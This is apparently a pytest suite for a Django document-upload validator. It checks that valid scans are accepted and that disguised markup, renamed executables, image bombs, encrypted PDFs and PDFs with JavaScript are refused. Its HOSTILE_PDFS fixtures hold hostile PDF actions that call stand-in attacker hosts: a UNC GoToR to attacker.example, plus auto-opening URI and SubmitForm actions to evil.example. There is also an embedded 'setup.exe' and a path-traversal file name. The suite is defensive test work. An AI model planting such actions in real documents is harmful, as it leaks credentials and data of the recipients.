"""What an upload is, decided from its content: each accepted format and each refusal, with the
message a person reads (in English here) and the code an API client keys on."""

import hashlib

import pytest
from django.utils import translation

from passes.documents import UploadRejected, inspect_upload
from tests import fixtures_files as files


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def refusal(name, data, **kwargs) -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        inspect_upload(files.upload(name, data, **kwargs))
    return caught.value


# --- Accepted ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "builder", "content_type", "pages"),
    [
        ("licence.pdf", lambda: files.pdf_bytes(pages=3), "application/pdf", 3),
        ("photo.jpg", files.jpeg_bytes, "image/jpeg", 1),
        ("screenshot.png", files.png_bytes, "image/png", 1),
        ("scanner.tif", lambda: files.tiff_bytes(pages=4), "image/tiff", 4),
        ("grey.png", lambda: files.png_bytes(mode="L"), "image/png", 1),
        ("link.pdf", files.pdf_with_safe_link, "application/pdf", 1),
    ],
)
def test_accepted_formats_are_described_from_their_content(name, builder, content_type, pages):
    data = builder()
    result = inspect_upload(files.upload(name, data))
    assert result.content_type == content_type
    assert result.page_count == pages
    assert result.size == len(data)
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert result.name == name


def test_the_declared_type_and_the_name_do_not_decide():
    """A real PNG called "scan.pdf" and declared as a PDF is a PNG."""
    result = inspect_upload(files.upload("scan.pdf", files.png_bytes(), "application/pdf"))
    assert result.content_type == "image/png"
    assert result.extension == ".png"


def test_image_dimensions_are_reported():
    result = inspect_upload(files.upload("a.jpg", files.jpeg_bytes(640, 480)))
    assert (result.width, result.height) == (640, 480)


def test_a_file_streamed_to_disk_is_inspected_in_place():
    uploaded = files.upload_on_disk("big.tif", files.tiff_bytes(pages=2))
    assert inspect_upload(uploaded).content_type == "image/tiff"
    assert uploaded.read(4) == b"II*\x00", "the file is rewound for whoever stores it"


def test_path_components_and_control_characters_are_stripped_from_the_name():
    result = inspect_upload(files.upload("..\\..\\evil\r\nname.jpg", files.jpeg_bytes()))
    assert result.name == "evilname.jpg"


# --- Refused: not a document -----------------------------------------------------------------


def test_html_named_pdf_is_refused():
    error = refusal("invoice.pdf", files.HTML_DOCUMENT, content_type="application/pdf")
    assert error.code == "disguised_markup"
    assert error.message == (
        "“invoice.pdf” was refused: its name says PDF but it is a web page (HTML). Only PDF, "
        "JPEG, PNG and TIFF scans are accepted."
    )


def test_svg_named_pdf_is_refused():
    error = refusal("drawing.pdf", files.SVG_DOCUMENT, content_type="application/pdf")
    assert error.code == "disguised_markup"
    assert "“drawing.pdf”" in error.message
    assert "an SVG drawing" in error.message


@pytest.mark.parametrize("builder", [files.elf_bytes, files.pe_bytes], ids=["elf", "pe"])
def test_executable_renamed_jpg_is_refused(builder):
    error = refusal("photo.jpg", builder(), content_type="image/jpeg")
    assert error.code == "executable"
    assert error.message.startswith(
        "“photo.jpg” was refused: its name says JPEG but it is a program"
    )


@pytest.mark.parametrize(
    ("name", "builder"),
    [("archive.zip", files.zip_bytes), ("anim.gif", files.gif_bytes), ("notes.txt", lambda: b"hi")],
)
def test_other_types_are_refused(name, builder):
    error = refusal(name, builder())
    assert error.code == "unsupported_type"
    assert error.message == f"“{name}” was refused: it is not a PDF, JPEG, PNG or TIFF file."


def test_pdf_signature_must_start_the_file():
    """Junk before ``%PDF`` is how polyglot files sneak past lenient readers."""
    error = refusal("shifted.pdf", b"<html>" + files.pdf_bytes())
    assert error.code == "disguised_markup"


# --- Refused: size -----------------------------------------------------------------------------


def test_empty_file_is_refused():
    error = refusal("blank.pdf", b"")
    assert (error.code, error.message) == ("empty", "“blank.pdf” was refused: the file is empty.")


def test_file_above_the_size_cap_is_refused(settings):
    settings.PASSDESK_UPLOAD_MAX_BYTES = 5000
    error = refusal("big.jpg", files.noise_jpeg_bytes(6000))
    assert error.code == "too_large"
    assert error.message.startswith("“big.jpg” was refused: it is ")
    assert "files of at most 4.9\xa0KB are accepted" in error.message


def test_default_size_cap_is_ten_megabytes(tmp_path):
    from django.core.files import File

    path = tmp_path / "scan.pdf"
    files.sized_file(path, 10 * 1024 * 1024 + 1)
    with path.open("rb") as handle:
        error = pytest.raises(UploadRejected, inspect_upload, File(handle, name="scan.pdf")).value
    assert error.code == "too_large"
    assert "10.0\xa0MB" in error.message


def test_a_file_longer_than_it_claims_is_stopped_while_reading(settings):
    """The size Django reports comes from the bytes received; a file object that reports less
    than it holds is still cut off by the chunked read."""
    settings.PASSDESK_UPLOAD_MAX_BYTES = 5000
    uploaded = files.upload("liar.jpg", files.noise_jpeg_bytes(9000))
    uploaded.size = 100
    error = pytest.raises(UploadRejected, inspect_upload, uploaded).value
    assert error.code == "too_large"
    assert "larger than 4.9\xa0KB" in error.message


# --- Refused: broken or dangerous images ------------------------------------------------------


def test_truncated_jpeg_is_refused():
    error = refusal("cut.jpg", files.truncated_jpeg_bytes())
    assert error.code == "broken_image"
    assert error.message == (
        "“cut.jpg” was refused: it is a damaged or incomplete JPEG image. Scan it again or "
        "export it anew."
    )


def test_png_with_garbage_pixel_data_is_refused():
    error = refusal("corrupt.png", files.corrupt_png_bytes())
    assert error.code == "broken_image"
    assert "incomplete PNG image" in error.message


def test_truncated_tiff_is_refused():
    data = files.tiff_bytes(pages=2)
    error = refusal("cut.tif", data[: len(data) // 2])
    assert error.code == "broken_image"


def test_png_bomb_claiming_100k_by_100k_pixels_is_refused():
    error = refusal("bomb.png", files.png_bomb_bytes(100_000, 100_000))
    assert error.code == "too_many_pixels"
    assert error.message == "“bomb.png” was refused: it has more than 60 million pixels."


def test_pixel_cap_is_checked_from_the_header_with_the_dimensions(settings):
    settings.PASSDESK_UPLOAD_MAX_PIXELS = 1_000_000
    error = refusal("wide.png", files.png_bomb_bytes(2000, 1000))
    assert error.code == "too_many_pixels"
    assert error.message == (
        "“wide.png” was refused: it is 2000 × 1000 pixels; images of at most 1 million pixels "
        "are accepted."
    )


def test_tiff_pages_count_against_the_page_cap(settings):
    settings.PASSDESK_UPLOAD_MAX_PDF_PAGES = 3
    error = refusal("many.tif", files.tiff_bytes(pages=4, width=200, height=200))
    assert error.code == "too_many_pages"
    assert error.message == "“many.tif” was refused: it has 4 pages; at most 3 are accepted."


# --- Refused: PDFs -----------------------------------------------------------------------------


@pytest.mark.parametrize("password", ["secret", ""], ids=["user-password", "owner-only"])
def test_encrypted_pdf_is_refused(password):
    error = refusal("locked.pdf", files.encrypted_pdf_bytes(password))
    assert error.code == "pdf_encrypted"
    assert error.message == (
        "“locked.pdf” was refused: the PDF is encrypted or password-protected. Save a copy "
        "without a password and upload that."
    )


def test_unreadable_pdf_is_refused():
    error = refusal("broken.pdf", files.broken_pdf_bytes())
    assert error.code == "pdf_unreadable"
    assert error.message == "“broken.pdf” was refused: it is a damaged PDF that cannot be read."


def test_pdf_cut_off_half_way_is_refused():
    data = files.pdf_bytes(pages=2)
    error = refusal("half.pdf", data[: len(data) // 3])
    assert error.code == "pdf_unreadable"


@pytest.mark.parametrize(
    "builder",
    [
        files.pdf_with_open_action_js,
        files.pdf_with_names_js,
        files.pdf_with_page_aa_js,
        lambda: files.pdf_with_page_aa_js(obfuscated=True),
        files.pdf_with_catalog_aa_js,
        files.pdf_with_js_in_next_chain,
        files.pdf_with_form_field_js,
        files.pdf_with_outline_js,
        files.pypdf_js_bytes,
    ],
    ids=[
        "open-action",
        "names-tree",
        "page-aa",
        "page-aa-hex-escaped",
        "catalog-aa",
        "next",
        "form-field",
        "outline",
        "pypdf",
    ],
)
def test_pdf_with_javascript_is_refused(builder):
    error = refusal("form.pdf", builder())
    assert error.code == "pdf_javascript"
    assert error.message == (
        "“form.pdf” was refused: the PDF contains JavaScript. Print it to a new PDF or scan the "
        "paper copy."
    )


def test_pdf_with_launch_action_is_refused():
    error = refusal("run.pdf", files.pdf_with_launch_annotation())
    assert error.code == "pdf_launch"
    assert "launches a program" in error.message


def test_pdf_with_xfa_form_is_refused():
    error = refusal(
        "xfa.pdf", files.pdf_bytes(catalog_extra=b"/AcroForm << /Fields [] /XFA [] >> ")
    )
    assert error.code == "pdf_javascript"
    assert "XFA form" in error.message


def test_pdf_above_the_page_cap_is_refused(settings):
    settings.PASSDESK_UPLOAD_MAX_PDF_PAGES = 5
    error = refusal("thick.pdf", files.pdf_bytes(pages=6))
    assert error.code == "too_many_pages"
    assert error.message == "“thick.pdf” was refused: it has 6 pages; at most 5 are accepted."
    assert inspect_upload(files.upload("ok.pdf", files.pdf_bytes(pages=5))).page_count == 5


def test_refusal_converts_to_a_form_error():
    error = refusal("blank.pdf", b"")
    validation_error = error.as_validation_error()
    assert validation_error.code == "empty"
    assert validation_error.messages == [error.message]


# --- Actions that reach outside the document, embedded files -------------------------------


def _embedded_exe_names_tree() -> bytes:
    first = files.next_object_number()
    return files.pdf_bytes(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) %d 0 R] >> >> " % first,
        extra_objects=[
            b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F %d 0 R >> >>"
            % (first + 1),
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    )


def _file_attachment_annotation() -> bytes:
    annot = files.next_object_number()
    return files.pdf_bytes(
        page_extra=b"/Annots [%d 0 R] " % annot,
        extra_objects=[
            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
            b"/FS << /Type /Filespec /F (report.pdf.exe) >> >>"
        ],
    )


HOSTILE_PDFS = {
    "gotor_unc": (
        files.pdf_bytes(
            catalog_extra=b"/OpenAction << /S /GoToR "
            b"/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "
        ),
        "pdf_remote_action",
        "opens another file",
    ),
    "uri_open_action": (
        files.pdf_bytes(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> "),
        "pdf_remote_action",
        "opens a web address by itself",
    ),
    "uri_page_open_event": (
        files.pdf_bytes(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> "),
        "pdf_remote_action",
        "opens a web address by itself",
    ),
    "submit_form_open_action": (
        files.pdf_bytes(
            catalog_extra=b"/OpenAction << /S /SubmitForm "
            b"/F << /FS /URL /F (https://evil.example/) >> >> "
        ),
        "pdf_remote_action",
        "sends data elsewhere",
    ),
    "embedded_files_tree": (_embedded_exe_names_tree(), "pdf_embedded_file", "embedded files"),
    "file_attachment_annotation": (
        _file_attachment_annotation(),
        "pdf_embedded_file",
        "embedded files",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
def test_remote_actions_and_embedded_files_are_refused_naming_the_file(case):
    data, code, reason = HOSTILE_PDFS[case]
    error = refusal("营业执照.pdf", data)
    assert error.code == code
    assert reason in error.message and "“营业执照.pdf”" in error.message
    with translation.override("zh-hans"):
        chinese = refusal("营业执照.pdf", data)
    assert "营业执照.pdf" in chinese.message and reason not in chinese.message


def test_a_clickable_web_link_stays_accepted():
    assert inspect_upload(files.upload("linked.pdf", files.pdf_with_safe_link())).page_count == 1
